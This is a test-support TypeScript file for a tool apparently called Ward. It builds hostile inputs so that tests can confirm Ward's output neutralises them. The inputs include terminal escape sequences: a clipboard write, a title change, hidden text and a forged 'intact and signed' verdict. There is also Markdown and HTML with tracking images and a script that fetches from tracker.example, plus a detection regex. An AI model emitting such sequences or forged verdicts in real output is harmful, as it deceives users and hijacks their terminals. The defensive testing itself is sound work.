/**
 * Text made to take over a terminal or a reader's eyes, and journal events holding it in every
 * field. The events are built by walking the journal schema (common/events.ts), so an event type
 * or field added later is covered without touching a test.
 */
import { journalPayloadSchemas } from '../../common/events.js';

/** A line that, printed raw, would look like Ward's own verdict. */
export const FORGED_VERDICT = 'ok: /tmp/chat.wardbundle is intact and signed';

/**
 * Every trick at once: clipboard write (OSC 52), window title (OSC 0), hidden text (SGR 8),
 * cursor moves and line erase (CSI), a carriage return and a new line holding a forged verdict,
 * a C1 CSI, a bidi override, tag characters and blank padding (Braille blank, Hangul filler).
 */
export const HOSTILE_TEXT =
  `\u001b]52;c;ZWNobyBwd25lZA==\u0007\u001b]0;pwned title\u0007\u001b[8mhidden\u001b[0m\u001b[2A\u001b[2K\r\n${FORGED_VERDICT}\n` +
  `  signature valid by SHA256:x (the expected signer)\u009b31m\u202eexe.txt\u{E0069}\u{E0067}\u{E006E}${'\u2800'.repeat(400)}${'\u3164'.repeat(400)}end`;

/** The same tricks within 64 characters, for the statement's bounded fields. */
export const HOSTILE_SHORT = `\u001b]0;t\u0007\u001b[8m\r\n${'ok: b is intact and signed'}\u009b\u202e\u{E0041}\u2800\u2800\u3164`;

/**
 * Markdown and HTML a reader's viewer would act on: a tracking image, links (inline, reference,
 * autolink, bare URL, www, e-mail), raw HTML, a heading (ATX and setext), a table, a rule, and
 * backtick and tilde runs that try to close a fence or a code span around them. Every URL is on
 * tracker.example, so a test can tell any load or link apart from Ward's own.
 */
export const HOSTILE_MARKDOWN = [
  '![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) <https://tracker.example/auto>',
  'https://tracker.example/bare www.tracker.example mail@tracker.example ` `` <img src="https://tracker.example/i.png">',
  '# heading',
  'Setext heading',
  '===',
  '| a | b |',
  '| - | - |',
  '| 1 | ![](https://tracker.example/cell.png) |',
  '',
  '[ref]: https://tracker.example/ref',
  '[ref] ![ref]',
  '````````',
  '<script>fetch("https://tracker.example/s")</script><iframe src="https://tracker.example/f"></iframe>',
  '~~~~~~~~',
  '<a href="https://tracker.example/a">a</a> &lt;b&gt; ***',
  '---',
  '    ![](https://tracker.example/indented.png)',
].join('\n');

/** What no output of Ward may hold: controls but newline, bidi controls, default-ignorables, blank fillers. */
export const UNSAFE_FOR_TERMINAL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u2800\p{Default_Ignorable_Code_Point}]/u;

/** The first character of `text` no output may hold, with what surrounds it; null when there is none. */
export function firstUnsafe(text: string): string | null {
  const unsafe = UNSAFE_FOR_TERMINAL.exec(text);
  return unsafe === null ? null : `U+${unsafe[0].codePointAt(0)!.toString(16)} in ${JSON.stringify(text.slice(Math.max(0, unsafe.index - 40), unsafe.index + 40))}`;
}

type Def = { type: string; [key: string]: unknown };
const defOf = (schema: unknown): Def => (schema as { _zod: { def: Def } })._zod.def;

/**
 * Values for a schema with `text` in every string, one per branch of each union. With `everywhere`,
 * numbers, booleans, enums and literals hold `text` too (the value no longer parses).
 */
function samples(schema: unknown, text: string, everywhere: boolean): unknown[] {
  const def = defOf(schema);
  switch (def.type) {
    case 'string':
      return [text];
    case 'number':
      return [everywhere ? text : 7];
    case 'boolean':
      return [everywhere ? text : true];
    case 'null':
      return [everywhere ? text : null];
    case 'literal':
      return [everywhere ? text : (def.values as unknown[])[0]];
    case 'enum':
      return [everywhere ? text : Object.values(def.entries as Record<string, unknown>)[0]];
    case 'nullable':
    case 'optional':
      return samples(def.innerType, text, everywhere);
    case 'pipe':
      return samples(def.in, text, everywhere);
    case 'array':
      return samples(def.element, text, everywhere).map((element) => [element, element]);
    case 'record':
      return samples(def.valueType, text, everywhere).map((value) => ({ [text]: value }));
    case 'lazy': // any JSON (tool arguments)
      return [{ [text]: [text, { [text]: text }] }];
    case 'union':
      return (def.options as unknown[]).flatMap((option) => samples(option, text, everywhere));
    case 'object': {
      const fields = Object.entries(def.shape as Record<string, unknown>).map(([key, field]) => [key, samples(field, text, everywhere)] as const);
      const variants = Math.max(1, ...fields.map(([, values]) => values.length));
      return Array.from({ length: variants }, (_, index) => Object.fromEntries(fields.map(([key, values]) => [key, values[index % values.length]])));
    }
    default:
      throw new Error(`hostile samples do not know schema type ${def.type}: teach test/support/hostile.ts`);
  }
}

/**
 * For every journal event type: payloads with `text` in every string field (one per union
 * branch; they parse), then one with `text` in every field whatsoever (it does not).
 */
export function hostileEvents(text = HOSTILE_TEXT): Array<{ type: string; payload: unknown }> {
  return journalPayloadSchemas().flatMap(([type, payload]) => [
    ...samples(payload, text, false).map((payload) => ({ type, payload })),
    ...samples(payload, text, true).map((payload) => ({ type, payload })),
  ]);
}
